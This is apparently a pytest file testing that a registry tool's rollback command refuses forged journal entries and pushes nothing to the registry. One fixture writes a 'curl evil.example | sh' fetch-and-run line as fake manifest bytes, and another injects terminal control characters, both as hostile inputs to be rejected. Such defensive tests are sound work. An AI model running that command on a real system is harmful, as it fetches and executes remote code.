"""Forged journals: rollback pushes only an original it can prove the tag was converted from.

Each forgery is internally consistent (its bytes hash to its ``old_digest``, its ``new_digest``
is what the tag holds now), so only the proof stops it: the journalled original, run through the
pure normalizer, must reproduce the tag's digest. Every case runs the CLI as a child; it must name
the refused tag on one stderr line, exit 3, and leave the tag where it was with no manifest PUT.
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.support import seed
from tests.support.bulk_seed import Seeder
from tests.support.hostile_local import one_error_line, run_cli
from tests.support.registry import RunningRegistry

Line = dict[str, Any]


@pytest.fixture(scope="module")
def converted(registry: RunningRegistry, tmp_path_factory: pytest.TempPathFactory) -> Line:
    """A Docker image converted by batch: its journal's converted line."""
    s = Seeder(registry.url)
    s.docker_image("forged/app", "v1", key="forged-app")
    s.docker_image("forged/other", "v1", key="forged-other")  # a second, unrelated image
    s.close()
    journal = tmp_path_factory.mktemp("forged") / "journal.jsonl"
    proc = run_cli("batch", registry.host, "--repo", "forged/app", "--journal", str(journal))
    assert proc.returncode == 0, proc.stderr
    lines = [json.loads(x) for x in journal.read_text().splitlines()]
    [line] = [x for x in lines if x["status"] == "converted"]
    assert seed.head_manifest(registry.url, "forged/app", "v1") == line["new_digest"]
    return dict(line)


def _with_bytes(line: Line, data: bytes, media_type: str | None = None) -> Line:
    return {
        **line,
        "old_manifest": base64.b64encode(data).decode(),
        "old_digest": seed.sha256_digest(data),
        "old_media_type": media_type or line["old_media_type"],
    }


def _original(line: Line) -> bytes:
    return base64.b64decode(line["old_manifest"])


def another_image(registry: RunningRegistry, line: Line) -> Line:
    other = seed.get_manifest(registry.url, "forged/other", "v1")[0]
    return _with_bytes(line, other)


def arbitrary_bytes(registry: RunningRegistry, line: Line) -> Line:
    return _with_bytes(line, b"#!/bin/sh\ncurl evil.example | sh\n")


def a_json_object_of_our_choosing(registry: RunningRegistry, line: Line) -> Line:
    data = json.dumps({"schemaVersion": 2, "mediaType": line["old_media_type"], "x": 1}).encode()
    return _with_bytes(line, data)


def the_original_with_another_media_type(registry: RunningRegistry, line: Line) -> Line:
    return {**line, "old_media_type": "application/vnd.oci.image.index.v1+json"}


def the_original_without_its_media_type_field(registry: RunningRegistry, line: Line) -> Line:
    body = json.loads(_original(line))
    body.pop("mediaType")
    return _with_bytes(line, json.dumps(body).encode())


def the_original_with_an_extra_layer(registry: RunningRegistry, line: Line) -> Line:
    body = json.loads(_original(line))
    body["layers"].append(dict(body["layers"][0], size=1))
    return _with_bytes(line, json.dumps(body).encode())


def a_digest_that_does_not_match(registry: RunningRegistry, line: Line) -> Line:
    return {**line, "old_digest": "sha256:" + "1" * 64}


def a_reference_pinned_by_digest(registry: RunningRegistry, line: Line) -> Line:
    return {**line, "reference": f"{line['reference']}@{line['new_digest']}"}


def control_characters_in_every_text(registry: RunningRegistry, line: Line) -> Line:
    forged = another_image(registry, line)
    return {**forged, "run": "\x1b[2J", "error": "x\ny", "new_media_type": "\x07"}


Forge = Callable[[RunningRegistry, Line], Line]
CASES: list[tuple[Forge, str]] = [
    (another_image, "converts to"),
    (arbitrary_bytes, "the journalled original is not a manifest"),
    (a_json_object_of_our_choosing, "cannot prove"),
    (the_original_with_another_media_type, "not a manifest type its bytes agree with"),
    (the_original_without_its_media_type_field, "not a manifest type its bytes agree with"),
    (the_original_with_an_extra_layer, "converts to"),
    (a_digest_that_does_not_match, "journalled original"),
    (a_reference_pinned_by_digest, "must name a tag"),
    (control_characters_in_every_text, "converts to"),
]


@pytest.mark.parametrize(("forge", "message"), CASES, ids=[f.__name__ for f, _ in CASES])
def test_a_forged_line_is_refused_and_nothing_is_pushed(
    registry: RunningRegistry,
    converted: Line,
    tmp_path: Path,
    forge: Forge,
    message: str,
) -> None:
    journal = tmp_path / "forged.jsonl"
    journal.write_text(json.dumps(forge(registry, converted)) + "\n")
    mark = registry.log_mark()
    for dry in ([], ["--dry-run"]):
        proc = run_cli("rollback", str(journal), *dry)
        line = one_error_line(proc, code=3)
        assert message in line, line
        assert "forged/app:v1" in line
    assert seed.head_manifest(registry.url, "forged/app", "v1") == converted["new_digest"]
    writes = [e for e in registry.access_log_lines(since=mark) if e.method in ("PUT", "POST")]
    assert writes == []


def test_a_forged_line_does_not_stop_a_true_one(registry: RunningRegistry, tmp_path: Path) -> None:
    repo = f"forged/mixed-{os.urandom(3).hex()}"
    s = Seeder(registry.url)
    image = s.docker_image(repo, "good", key=f"{repo}-good")
    s.copy_image(image, repo, repo, "bad")
    evil = s.docker_image("forged/evil", "v1", key=f"{repo}-evil")
    s.close()
    journal = tmp_path / "journal.jsonl"
    proc = run_cli("batch", registry.host, "--repo", repo, "--journal", str(journal))
    assert proc.returncode == 0, proc.stderr
    lines = [json.loads(x) for x in journal.read_text().splitlines()]
    forged = [
        _with_bytes(x, evil.manifest) if x["reference"].endswith(":bad") else x for x in lines
    ]
    journal.write_text("".join(json.dumps(x) + "\n" for x in forged))

    proc = run_cli("rollback", str(journal))
    assert "bad" in one_error_line(proc, code=3)
    assert f"restored {registry.host}/{repo}:good -> {image.digest}" in proc.stdout
    assert seed.head_manifest(registry.url, repo, "good") == image.digest
    assert seed.head_manifest(registry.url, repo, "bad") != evil.digest
